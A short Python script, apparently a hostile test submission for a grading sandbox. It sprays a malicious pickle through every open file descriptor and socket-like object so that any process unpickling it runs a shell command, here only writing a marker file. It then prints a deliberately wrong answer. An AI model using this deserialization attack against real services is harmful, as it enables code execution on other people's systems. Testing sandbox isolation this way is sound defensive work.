# Sends pickles that run a command, wherever somebody may read.
import gc
import os
import pickle
import sys


class Evil:
    def __reduce__(self):
        return os.system, ("echo x > @MARK@",)


for fd in range(3, 300):
    for write in (os.write, lambda fd, text: os.pwrite(fd, text, 0)):
        try:
            write(fd, pickle.dumps(Evil()))
        except OSError:
            pass
for one in gc.get_objects():
    if hasattr(type(one), "send") and hasattr(one, "fileno"):
        one.send(Evil())

for line in sys.stdin:
    print(int(line) ** 2 + (int(line) >= 42))  # wrong
